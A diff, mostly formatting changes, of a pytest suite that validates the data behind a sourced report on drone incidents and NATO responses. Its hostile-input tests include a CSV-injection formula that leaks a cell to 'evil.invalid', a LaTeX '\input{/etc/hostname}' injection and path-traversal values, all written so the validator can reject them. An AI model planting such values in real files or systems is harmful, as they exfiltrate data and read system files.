@@ -20,12 +20,13 @@ import pandas as pd
 import pytest
 
 from report.data import DataError, load_all, read_package, validate
-
 from report.paths import ROOT  # noqa: E402
+
 DATA = ROOT / "data"
 
 
 # --- the real data -----------------------------------------------------------------------
+
 
 def test_datapackage_is_valid_for_frictionless():
     report = frictionless.validate(str(DATA / "datapackage.json"))
@@ -66,8 +67,11 @@ def test_state_affiliated_media_only_document_their_own_state():
             used = set(str(row["source_ids"]).split(";")) & state_media
             if used:
                 column = allowed_columns.get(name)
-                assert column and re.search(r"Russia|Kremlin|Moscow|Belarus|TASS|RIA|Zakharova|Peskov", str(row[column])), (
-                    f"data/{name}.csv: {sorted(used)} (state-affiliated) backs a row that is not about that state's own position")
+                assert column and re.search(
+                    r"Russia|Kremlin|Moscow|Belarus|TASS|RIA|Zakharova|Peskov", str(row[column])
+                ), (
+                    f"data/{name}.csv: {sorted(used)} (state-affiliated) backs a row that is not about that state's own position"
+                )
 
 
 def test_contested_counts_are_ranges_with_attribution():
@@ -86,11 +90,7 @@ def test_contested_counts_are_ranges_with_attribution():
 
 # --- bad input ---------------------------------------------------------------------------
 
-@pytest.fixture
-def data_copy(tmp_path) -> Path:
-    folder = tmp_path / "data"
-    shutil.copytree(DATA, folder)
-    return folder
+# data_copy, a copy of data/ to break: tests/conftest.py
 
 
 def rewrite(folder: Path, table: str, change) -> None:
@@ -105,6 +105,7 @@ def rewrite(folder: Path, table: str, change) -> None:
 def set_cell(folder: Path, table: str, row: int, column: str, value: str) -> None:
     def change(rows):
         rows[row + 1][rows[0].index(column)] = value  # row 1 is the first data row
+
     rewrite(folder, table, change)
 
 
@@ -140,24 +141,59 @@ def test_missing_column(data_copy):
         index = rows[0].index("kind")
         for row in rows:
             del row[index]
+
     rewrite(data_copy, "incidents", drop_kind)
     expect_error(data_copy, "incidents.csv", "header (line 1)", "column 'kind'", "missing")
 
 
 # One bad cell: (table, data row from 0, column, value, what the message must say).
 BAD_CELLS = {
-    "impossible date": ("incidents", 2, "date_start", "2025-09-31", ["row 3 (line 4)", "not a real calendar date"]),
+    "impossible date": (
+        "incidents",
+        2,
+        "date_start",
+        "2025-09-31",
+        ["row 3 (line 4)", "not a real calendar date"],
+    ),
     "date in another format": ("us_statements", 0, "date", "23/09/2025", ["row 1 (line 2)", "YYYY-MM-DD"]),
-    "date after the sources were checked": ("incidents", 0, "date_start", "2099-01-01",
-                                            ["row 1 (line 2)", "after the date the sources were last checked"]),
+    "date after the sources were checked": (
+        "incidents",
+        0,
+        "date_start",
+        "2099-01-01",
+        ["row 1 (line 2)", "after the date the sources were last checked"],
+    ),
     "number above the maximum": ("incidents", 0, "lat", "89.5", ["row 1 (line 2)", "above the maximum"]),
-    "date below the minimum": ("sources", 0, "date_published", "1900-01-01", ["row 1 (line 2)", "below the minimum 1949-04-04"]),
+    "date below the minimum": (
+        "sources",
+        0,
+        "date_published",
+        "1900-01-01",
+        ["row 1 (line 2)", "below the minimum 1949-04-04"],
+    ),
     "unknown category": ("incidents", 1, "kind", "ufo", ["row 2 (line 3)", "'ufo' is not an allowed value"]),
-    "id against the pattern": ("sources", 1, "source_id", "Has Capitals", ["row 2 (line 3)", "does not match the pattern"]),
+    "id against the pattern": (
+        "sources",
+        1,
+        "source_id",
+        "Has Capitals",
+        ["row 2 (line 3)", "does not match the pattern"],
+    ),
     "empty required cell": ("incidents", 0, "source_ids", "", ["row 1 (line 2)", "empty but required"]),
-    "missing source in a list": ("us_statements", 0, "source_ids", "no-such-source-2025",
-                                 ["row 1 (line 2)", "'no-such-source-2025' does not exist in sources.csv"]),
-    "missing incident": ("incident_figures", 0, "incident_id", "2025-09-10-XX", ["row 1 (line 2)", "does not exist in incidents.csv"]),
+    "missing source in a list": (
+        "us_statements",
+        0,
+        "source_ids",
+        "no-such-source-2025",
+        ["row 1 (line 2)", "'no-such-source-2025' does not exist in sources.csv"],
+    ),
+    "missing incident": (
+        "incident_figures",
+        0,
+        "incident_id",
+        "2025-09-10-XX",
+        ["row 1 (line 2)", "does not exist in incidents.csv"],
+    ),
     "malformed address": ("sources", 0, "url", "htp:/example", ["row 1 (line 2)"]),
 }
 
@@ -172,9 +208,16 @@ def test_a_bad_cell_is_named_by_file_row_and_column(data_copy, case):
 def test_duplicate_id_names_the_first_line(data_copy):
     def duplicate(rows):
         rows[5][0] = rows[2][0]
+
     rewrite(data_copy, "incidents", duplicate)
-    expect_error(data_copy, "incidents.csv", "row 5 (line 6)", "column 'incident_id'", "duplicate id",
-                 "(first used on line 3)")
+    expect_error(
+        data_copy,
+        "incidents.csv",
+        "row 5 (line 6)",
+        "column 'incident_id'",
+        "duplicate id",
+        "(first used on line 3)",
+    )
 
 
 def test_range_minimum_above_maximum(data_copy):
@@ -194,12 +237,16 @@ def test_country_not_a_nato_member_at_the_time(data_copy):
     set_cell(data_copy, "incidents", 0, "country", "FI")
     set_cell(data_copy, "incidents", 0, "date_start", "2022-06-01")
     set_cell(data_copy, "incidents", 0, "date_end", "")
-    expect_error(data_copy, "incidents.csv", "row 1", "column 'country'", "was not a NATO member on 2022-06-01")
+    expect_error(
+        data_copy, "incidents.csv", "row 1", "column 'country'", "was not a NATO member on 2022-06-01"
+    )
 
 
 def test_country_that_never_joined(data_copy):
     set_cell(data_copy, "incidents", 0, "country", "MD")  # Moldova: not a member
-    expect_error(data_copy, "incidents.csv", "row 1", "column 'country'", "'MD' does not exist in nato_members.csv")
+    expect_error(
+        data_copy, "incidents.csv", "row 1", "column 'country'", "'MD' does not exist in nato_members.csv"
+    )
 
 
 def test_ragged_row(data_copy):
@@ -212,9 +259,13 @@ def test_bad_data_stops_the_build_and_keeps_the_last_good_site(data_copy):
     set_cell(data_copy, "incidents", 0, "kind", "ufo")
     site_index = ROOT / "_build" / "html" / "index.html"
     before = site_index.stat().st_mtime_ns if site_index.exists() else None
-    result = subprocess.run([sys.executable, str(ROOT / "scripts" / "build_book.py"), "--html-only"],
-                            env={**os.environ, "REPORT_DATA_DIR": str(data_copy)},
-                            capture_output=True, text=True, timeout=120)
+    result = subprocess.run(
+        [sys.executable, str(ROOT / "scripts" / "build_book.py"), "--html-only"],
+        env={**os.environ, "REPORT_DATA_DIR": str(data_copy)},
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
     assert result.returncode != 0
     assert "incidents.csv, row 1 (line 2), column 'kind'" in result.stderr
     assert "nothing was built" in result.stderr
@@ -224,10 +275,14 @@ def test_bad_data_stops_the_build_and_keeps_the_last_good_site(data_copy):
 
 def test_bibliography_is_generated_from_the_sources():
     from report.bib import BIB, render_bib
-    assert BIB.read_text(encoding="utf-8") == render_bib(), "run `python -m report.bib` after editing sources.csv"
+
+    assert BIB.read_text(encoding="utf-8") == render_bib(), (
+        "run `python -m report.bib` after editing sources.csv"
+    )
 
 
 # --- gaps found by the hostile-input review (issue 9) ------------------------------------
+
 
 def test_end_date_before_start_date(data_copy):
     row = first_row_where(data_copy, "incidents", "date_end", lambda v: v != "")
@@ -238,17 +293,27 @@ def test_end_date_before_start_date(data_copy):
 def test_date_after_the_as_of_date(data_copy):
     """No row may be dated after the day the sources were last checked."""
     import datetime as dt
+
     # Move the as-of date back to the newest date in the data, then date one row a day later.
     frames = load_all(data_copy)
-    newest = max(frame[column].max() for frame in frames.values() for column in frame
-                 if str(frame[column].dtype).startswith("datetime")).date()
+    newest = max(
+        frame[column].max()
+        for frame in frames.values()
+        for column in frame
+        if str(frame[column].dtype).startswith("datetime")
+    ).date()
     package = json.loads((data_copy / "datapackage.json").read_text(encoding="utf-8"))
     package["x-as-of"] = newest.isoformat()
     (data_copy / "datapackage.json").write_text(json.dumps(package), encoding="utf-8")
     validate(data_copy)  # still valid: nothing is later than the newest date
     set_cell(data_copy, "us_statements", 0, "date", (newest + dt.timedelta(days=1)).isoformat())
-    expect_error(data_copy, "us_statements.csv", "row 1 (line 2)", "column 'date'",
-                 f"after the date the sources were last checked ({newest}")
+    expect_error(
+        data_copy,
+        "us_statements.csv",
+        "row 1 (line 2)",
+        "column 'date'",
+        f"after the date the sources were last checked ({newest}",
+    )
 
 
 def test_schema_does_not_expire(data_copy, monkeypatch):
@@ -274,13 +339,15 @@ def test_schema_does_not_expire(data_copy, monkeypatch):
         def today(cls):
             return dt.date(2027, 3, 2)
 
-    monkeypatch.setattr(report.data, "dt", types.SimpleNamespace(date=March2027, datetime=dt.datetime,
-                                                                 timedelta=dt.timedelta))
+    monkeypatch.setattr(
+        report.data, "dt", types.SimpleNamespace(date=March2027, datetime=dt.datetime, timedelta=dt.timedelta)
+    )
     validate(data_copy)
 
 
 def test_date_in_the_future(data_copy):
     import datetime as dt
+
     tomorrow = dt.date.today() + dt.timedelta(days=1)
     set_cell(data_copy, "us_statements", 0, "date", tomorrow.isoformat())
     message = expect_error(data_copy, "us_statements.csv", "row 1", "column 'date'")
@@ -289,7 +356,9 @@ def test_date_in_the_future(data_copy):
 
 def test_article4_requester_that_is_not_a_member(data_copy):
     set_cell(data_copy, "article4", 0, "requesters", "TR;UA")
-    expect_error(data_copy, "article4.csv", "row 1", "column 'requesters'", "'UA' does not exist in nato_members.csv")
+    expect_error(
+        data_copy, "article4.csv", "row 1", "column 'requesters'", "'UA' does not exist in nato_members.csv"
+    )
 
 
 def test_article4_requester_before_it_joined(data_copy):
@@ -331,7 +400,9 @@ def test_invisible_characters(data_copy, char):
 
 
 def test_line_break_in_a_cell(data_copy):
-    set_cell(data_copy, "glossary", 1, "definition", "One line.\n:::\n```{raw} latex\n\\input{/etc/hostname}\n```")
+    set_cell(
+        data_copy, "glossary", 1, "definition", "One line.\n:::\n```{raw} latex\n\\input{/etc/hostname}\n```"
+    )
     expect_error(data_copy, "glossary.csv", "row 2 (line 3)", "column 'definition'", "line break")
 
 
@@ -351,17 +422,24 @@ def test_undescribed_csv_is_refused(data_copy):
 @pytest.mark.parametrize("path", ["../../../etc/hostname", "/etc/hostname", "sub/incidents.csv"])
 def test_resource_path_stays_in_the_data_folder(data_copy, path):
     import json
+
     package = json.loads((data_copy / "datapackage.json").read_text(encoding="utf-8"))
     package["resources"][0]["path"] = path
     (data_copy / "datapackage.json").write_text(json.dumps(package), encoding="utf-8")
     expect_error(data_copy, "datapackage.json", "'path'", "must be a file name in the data folder")
 
 
-@pytest.mark.parametrize("content, fragment", [
-    ("[]", "top level"),
-    ('{"x-as-of": "2026-01-01", "resources": [{"name": "sources", "path": "sources.csv"}]}', "needs a 'schema'"),
-    (b'{"resources": "\xff"}', "is not UTF-8"),
-])
+@pytest.mark.parametrize(
+    "content, fragment",
+    [
+        ("[]", "top level"),
+        (
+            '{"x-as-of": "2026-01-01", "resources": [{"name": "sources", "path": "sources.csv"}]}',
+            "needs a 'schema'",
+        ),
+        (b'{"resources": "\xff"}', "is not UTF-8"),
+    ],
+)
 def test_malformed_datapackage_gives_a_message_not_a_traceback(data_copy, content, fragment):
     target = data_copy / "datapackage.json"
     target.write_bytes(content if isinstance(content, bytes) else content.encode())
@@ -370,6 +448,7 @@ def test_malformed_datapackage_gives_a_message_not_a_traceback(data_copy, conten
 
 def test_invalid_pattern_in_the_schema(data_copy):
     import json
+
     package = json.loads((data_copy / "datapackage.json").read_text(encoding="utf-8"))
     package["resources"][0]["schema"]["fields"][0]["constraints"]["pattern"] = "([a-z"
     (data_copy / "datapackage.json").write_text(json.dumps(package), encoding="utf-8")
@@ -407,12 +486,15 @@ def test_one_bad_row_does_not_bury_the_message_under_follow_on_errors(data_copy)
 
 # --- provenance and dating (issue 12) ----------------------------------------------------
 
+
 def test_every_copy_names_its_original():
     """A source whose own record calls it a copy, reprint or syndication names the original."""
     sources = load_all()["sources"]
     copy_words = r"\b(?:copy of|reprint|relays? (?:the|a) |republish)"
     notes = sources["notes"].fillna("")
-    says_copy = notes.str.contains(copy_words, case=False, regex=True) & ~notes.str.contains("not named", case=False)
+    says_copy = notes.str.contains(copy_words, case=False, regex=True) & ~notes.str.contains(
+        "not named", case=False
+    )
     unnamed = sources[says_copy & sources["copy_of"].isna()]
     assert unnamed.empty, f"copies that do not name their original: {list(unnamed['source_id'])[:10]}"
     has_original_details = sources[["original_title", "original_date", "original_url"]].notna().any(axis=1)
@@ -431,10 +513,20 @@ def test_records_of_events_and_statements_never_rest_on_a_think_tank_alone():
     own view; an event, a figure, a measure or someone else's statement needs an official
     source, an agency or an outlet behind it."""
     from report.facts import OWN_VIEW_TABLES
+
     tables = load_all()
     own = set(tables["sources"].query("source_class == 'research_or_advocacy'")["source_id"])
-    records = ["incidents", "incident_figures", "responses", "article4", "us_statements", "us_reactions",
-               "sweden_statements", "sweden_actions", "nato_members"]
+    records = [
+        "incidents",
+        "incident_figures",
+        "responses",
+        "article4",
+        "us_statements",
+        "us_reactions",
+        "sweden_statements",
+        "sweden_actions",
+        "nato_members",
+    ]
     assert not OWN_VIEW_TABLES & set(records)
     for name in records:
         frame = tables[name]
@@ -455,7 +547,11 @@ def test_a_figure_read_via_an_outlet_cites_that_outlet():
             continue
         source = sources.loc[row["source_id"]]
         page = " ".join(str(source[c]) for c in ("publisher", "copy_of", "title", "notes", "url")).lower()
-        names = [w for w in re.split(r"[\s/]+", via.group(1).lower()) if len(w) >= 2 and w not in {"the", "and", "citing"}]
+        names = [
+            w
+            for w in re.split(r"[\s/]+", via.group(1).lower())
+            if len(w) >= 2 and w not in {"the", "and", "citing"}
+        ]
         if not any(re.search(rf"\b{re.escape(name)}\b", page) for name in names):
             wrong.append(f"{row['figure_id']}: '{row['claimant']}' but the page is {source['publisher']}")
     assert not wrong, wrong
@@ -465,12 +561,16 @@ def test_a_note_that_names_a_source_names_one_the_data_lists():
     """A note that points to a source (or a row) by its id ('publisher-yyyymmdd-words') points to
     a listed one: a fact resting on an unlisted page would have no source a reader can follow."""
     tables = load_all()
-    listed = {str(key) for frame in tables.values() for key in frame.iloc[:, 0]}  # sources, and rows it may point to
+    listed = {
+        str(key) for frame in tables.values() for key in frame.iloc[:, 0]
+    }  # sources, and rows it may point to
     dangling = []
     for name, frame in tables.items():
         for column in [c for c in frame.columns if c in ("notes", "note")]:
             for key, text in zip(frame.iloc[:, 0], frame[column].fillna("")):
-                for ref in re.findall(r"\b[a-z0-9]+(?:-[a-z0-9]+)*-(?:\d{8}|\d{6}|undated)-[a-z0-9-]+\b", text):
+                for ref in re.findall(
+                    r"\b[a-z0-9]+(?:-[a-z0-9]+)*-(?:\d{8}|\d{6}|undated)-[a-z0-9-]+\b", text
+                ):
                     if ref not in listed:
                         dangling.append(f"{name}.csv {key}: {ref}")
     assert not dangling, dangling
@@ -479,6 +579,7 @@ def test_a_note_that_names_a_source_names_one_the_data_lists():
 def test_aggregator_share_is_within_the_target():
     """At most 10% of the evidence rows rest on copies, summaries and aggregators alone (issue 12)."""
     from report.facts import rows_on_aggregators_alone
+
     weak, total = rows_on_aggregators_alone()
     assert weak / total <= 0.10, f"{weak} of {total} rows rest on aggregators alone"
 
@@ -521,17 +622,26 @@ def test_swedish_quotations_are_short_and_printed_by_a_source_of_their_row():
 # --- the source policy (issue 20): one hostile example per rule ------------------------------
 # Rows are counted from 0 among the data rows (row 0 is line 2), as set_cell counts them.
 
+
 def test_refused_host(data_copy):
     """A page on a site listed in refused_hosts.csv (here a subdomain of the Pravda network)."""
     set_cell(data_copy, "sources", 0, "url", "https://eu.news-pravda.com/world/2025/09/25/110641-amp.html")
-    expect_error(data_copy, "sources.csv", "row 1 (line 2)", "column 'url'", "'eu.news-pravda.com' is a refused host",
-                 "Propaganda network")
+    expect_error(
+        data_copy,
+        "sources.csv",
+        "row 1 (line 2)",
+        "column 'url'",
+        "'eu.news-pravda.com' is a refused host",
+        "Propaganda network",
+    )
 
 
 def test_bare_ip_host(data_copy):
     """A 'Reuters' story on a bare IP address is refused by rule, listed or not."""
     set_cell(data_copy, "sources", 1, "url", "http://3.127.128.221/2025/09/10/poland-downs-russian-drones")
-    expect_error(data_copy, "sources.csv", "row 2 (line 3)", "column 'url'", "'3.127.128.221' is a bare IP address")
+    expect_error(
+        data_copy, "sources.csv", "row 2 (line 3)", "column 'url'", "'3.127.128.221' is a bare IP address"
+    )
 
 
 def test_refused_hosts_need_a_reason(data_copy):
@@ -547,35 +657,57 @@ def test_one_host_one_class(data_copy):
         rows = list(csv.DictReader(handle))
     second = next(i for i, row in enumerate(rows) if i > first and "kyivindependent.com/" in row["url"])
     set_cell(data_copy, "sources", second, "source_class", "secondary_aggregator")
-    expect_error(data_copy, "sources.csv", f"row {second + 1} (line {second + 2})", "column 'source_class'",
-                 "host 'kyivindependent.com'", f"on line {first + 2}", "one publisher host has one class")
+    expect_error(
+        data_copy,
+        "sources.csv",
+        f"row {second + 1} (line {second + 2})",
+        "column 'source_class'",
+        "host 'kyivindependent.com'",
+        f"on line {first + 2}",
+        "one publisher host has one class",
+    )
 
 
 def test_state_media_must_be_listed_with_its_state(data_copy):
     """A source classed state-affiliated on a host state_media.csv does not name (the first
     source's site has no other page, so one host keeps one class)."""
     set_cell(data_copy, "sources", 0, "source_class", "state_affiliated")
-    expect_error(data_copy, "sources.csv", "row 1 (line 2)", "column 'source_class'", "is not in state_media.csv")
+    expect_error(
+        data_copy, "sources.csv", "row 1 (line 2)", "column 'source_class'", "is not in state_media.csv"
+    )
 
 
 def test_state_media_only_for_its_own_state(data_copy):
     """TASS may back a row only where the row records Russia's own position: an incident whose
     Russian reaction is blanked, and a Polish measure citing TASS, are both refused."""
-    incident = first_row_where(data_copy, "incidents", "source_ids", lambda ids: "tass-20251106-russian-embassy-belgium" in ids)
+    incident = first_row_where(
+        data_copy, "incidents", "source_ids", lambda ids: "tass-20251106-russian-embassy-belgium" in ids
+    )
     set_cell(data_copy, "incidents", incident, "russia_reaction", "")
     response = first_row_where(data_copy, "responses", "actor", lambda actor: actor == "PL")
     with (data_copy / "responses.csv").open(encoding="utf-8", newline="") as handle:
         ids = list(csv.DictReader(handle))[response]["source_ids"]
     set_cell(data_copy, "responses", response, "source_ids", ids + ";tass-20250821-polish-protest-note")
-    expect_error(data_copy, "incidents.csv", f"row {incident + 1} (line {incident + 2})", "column 'source_ids'",
-                 "'tass-20251106-russian-embassy-belgium' is state media of Russia", "fill 'russia_reaction'")
-    expect_error(data_copy, "responses.csv", f"row {response + 1} (line {response + 2})",
-                 "'tass-20250821-polish-protest-note' is state media of Russia")
+    expect_error(
+        data_copy,
+        "incidents.csv",
+        f"row {incident + 1} (line {incident + 2})",
+        "column 'source_ids'",
+        "'tass-20251106-russian-embassy-belgium' is state media of Russia",
+        "fill 'russia_reaction'",
+    )
+    expect_error(
+        data_copy,
+        "responses.csv",
+        f"row {response + 1} (line {response + 2})",
+        "'tass-20250821-polish-protest-note' is state media of Russia",
+    )
 
 
 def test_state_media_may_speak_for_its_own_state():
     """The same TASS page backing a row whose actor is Russia is accepted (the rule is not a ban)."""
     from report.source_policy import _records_position
+
     row = pd.Series({"actor": "Russian embassy in Brussels", "russia_reaction": None})
     assert _records_position("responses", row, "RU", "Russia")
     assert not _records_position("responses", pd.Series({"actor": "PL"}), "RU", "Russia")
@@ -583,41 +715,68 @@ def test_state_media_may_speak_for_its_own_state():
 
 def test_standing_marks_each_class_and_names_the_original_of_a_copy():
     from report.source_policy import standing
+
     sources = load_all()["sources"].set_index("source_id", drop=False)
     marks = {standing(row) for _, row in sources.iterrows()}
     assert {"Official", "News outlet", "Research", "State media"} <= marks
-    copy = sources[(sources["source_class"] == "secondary_aggregator") & sources["copy_of"].eq("Reuters")].iloc[0]
+    copy = sources[
+        (sources["source_class"] == "secondary_aggregator") & sources["copy_of"].eq("Reuters")
+    ].iloc[0]
     assert standing(copy) == "Copy of Reuters"
 
 
 # --- hostile data the probe of issue 25 found accepted ----------------------------------
 
-@pytest.mark.parametrize("term", ["\u0410rticle 4", "Article 4\u3164", "ARTICLE 4", "Article\u00a04"],
-                         ids=["cyrillic-A", "hangul-filler", "upper-case", "no-break-space"])
+
+@pytest.mark.parametrize(
+    "term",
+    ["\u0410rticle 4", "Article 4\u3164", "ARTICLE 4", "Article\u00a04"],
+    ids=["cyrillic-A", "hangul-filler", "upper-case", "no-break-space"],
+)
 def test_a_glossary_term_that_looks_like_another_is_refused(data_copy, term):
     """Issue 25, item 4: four entries that look like 'Article 4' were all accepted."""
     row = first_row_where(data_copy, "glossary", "term", lambda v: v == "Article 4")
     other = first_row_where(data_copy, "glossary", "term", lambda v: v == "Article 5")
     set_cell(data_copy, "glossary", other, "term", term)
     message = expect_error(data_copy, "glossary.csv", f"line {other + 2}", "column 'term'")
-    assert f"line {row + 2}" in message and ("looks like 'Article 4'" in message or "invisible" in message
-                                             or "mixes Cyrillic and Latin" in message), message
+    assert f"line {row + 2}" in message and (
+        "looks like 'Article 4'" in message or "invisible" in message or "mixes Cyrillic and Latin" in message
+    ), message
 
 
 def test_a_word_mixing_scripts_is_refused_anywhere(data_copy):
     set_cell(data_copy, "incidents", 0, "notes", "Poland invoked \u0410rticle 4")
-    expect_error(data_copy, "incidents.csv", "row 1 (line 2)", "column 'notes'", "mixes Cyrillic and Latin",
-                 "U+0410 CYRILLIC CAPITAL LETTER A")
+    expect_error(
+        data_copy,
+        "incidents.csv",
+        "row 1 (line 2)",
+        "column 'notes'",
+        "mixes Cyrillic and Latin",
+        "U+0410 CYRILLIC CAPITAL LETTER A",
+    )
 
 
 def test_real_cyrillic_and_accented_latin_stay_accepted(data_copy):
-    set_cell(data_copy, "incidents", 0, "notes", "Минобороны России; Łódź, Malmö, Tallinn, Vilnius (Lietuvos kariuomenė)")
+    set_cell(
+        data_copy,
+        "incidents",
+        0,
+        "notes",
+        "Минобороны России; Łódź, Malmö, Tallinn, Vilnius (Lietuvos kariuomenė)",
+    )
     validate(data_copy)
 
 
-@pytest.mark.parametrize("text, code", [("drones \U0001F6A8", "U+1F6A8"), ("\u0394 change", "U+0394"),
-                                        ("\u5317\u7ea6 statement", "U+5317"), ("\u0646\u0627\u062a\u0648", "U+0646")],
-                         ids=["emoji", "greek", "chinese", "arabic"])
+@pytest.mark.parametrize(
+    "text, code",
+    [
+        ("drones \U0001f6a8", "U+1F6A8"),
+        ("\u0394 change", "U+0394"),
+        ("\u5317\u7ea6 statement", "U+5317"),
+        ("\u0646\u0627\u062a\u0648", "U+0646"),
+    ],
+    ids=["emoji", "greek", "chinese", "arabic"],
+)
 def test_a_character_the_pdfs_cannot_set_is_refused_by_name(data_copy, text, code):
     """Issue 25, item 5: the PDF failed late, pointing at the LaTeX log."""
     row = first_row_where(data_copy, "sources", "title", bool)
@@ -629,22 +788,30 @@ def test_the_pdf_characters_are_those_the_latex_encodings_declare():
     """data.PDF_CHARACTERS lists what T1, T2A and TS1 declare in the TeX Live the build uses."""
     from report.data import PDF_CHARACTERS
 
-    found = subprocess.run(["kpsewhich", "t1enc.dfu", "t2aenc.dfu", "ts1enc.dfu", "utf8.def"],
-                           capture_output=True, text=True)
+    found = subprocess.run(
+        ["kpsewhich", "t1enc.dfu", "t2aenc.dfu", "ts1enc.dfu", "utf8.def"], capture_output=True, text=True
+    )
     files = found.stdout.split() if found.returncode == 0 else []
     if len(files) != 4:
         pytest.skip("TeX Live is not installed here")
-    declared = {chr(int(code, 16)) for path in files
-                for code in re.findall(r"DeclareUnicodeCharacter\{([0-9A-Fa-f]+)\}", Path(path).read_text("latin-1"))}
+    declared = {
+        chr(int(code, 16))
+        for path in files
+        for code in re.findall(r"DeclareUnicodeCharacter\{([0-9A-Fa-f]+)\}", Path(path).read_text("latin-1"))
+    }
     extra = {ch for ch in PDF_CHARACTERS if ord(ch) > 0x7E} - declared
     assert not extra, sorted(f"U+{ord(ch):04X}" for ch in extra)
 
 
-@pytest.mark.parametrize("cell", ['=HYPERLINK("https://evil.invalid/?leak="&A1,"x")', "+1+2", "-2+3 km", "@SUM(A1)"])
+@pytest.mark.parametrize(
+    "cell", ['=HYPERLINK("https://evil.invalid/?leak="&A1,"x")', "+1+2", "-2+3 km", "@SUM(A1)"]
+)
 def test_a_spreadsheet_formula_in_a_text_cell_is_refused(data_copy, cell):
     """Issue 25, item 6: a formula reached the published CSVs (CSV injection)."""
     set_cell(data_copy, "incidents", 0, "notes", cell)
-    expect_error(data_copy, "incidents.csv", "row 1 (line 2)", "column 'notes'", f"begins with '{cell[0]}'", "formula")
+    expect_error(
+        data_copy, "incidents.csv", "row 1 (line 2)", "column 'notes'", f"begins with '{cell[0]}'", "formula"
+    )
 
 
 def test_a_negative_number_is_still_a_number(data_copy):
@@ -653,16 +820,25 @@ def test_a_negative_number_is_still_a_number(data_copy):
     validate(data_copy)
 
 
-@pytest.mark.parametrize("change, fragments", [
-    (lambda header: header.__setitem__(3, header[1]), ["header (line 1)", "appears twice", "columns 2 and 4"]),
-    (lambda header: header.append(""), ["header (line 1)", "has no name"]),
-], ids=["duplicated", "empty"])
+@pytest.mark.parametrize(
+    "change, fragments",
+    [
+        (
+            lambda header: header.__setitem__(3, header[1]),
+            ["header (line 1)", "appears twice", "columns 2 and 4"],
+        ),
+        (lambda header: header.append(""), ["header (line 1)", "has no name"]),
+    ],
+    ids=["duplicated", "empty"],
+)
 def test_a_duplicated_or_empty_column_name_is_named(data_copy, change, fragments):
     """Issue 25, item 7: the message was "column '': Extra Label:"."""
+
     def edit(rows):
         change(rows[0])
         for row in rows[1:]:
             row.extend([""] * (len(rows[0]) - len(row)))
+
     rewrite(data_copy, "incidents", edit)
     message = expect_error(data_copy, "incidents.csv", *fragments)
     assert "Extra Label" not in message
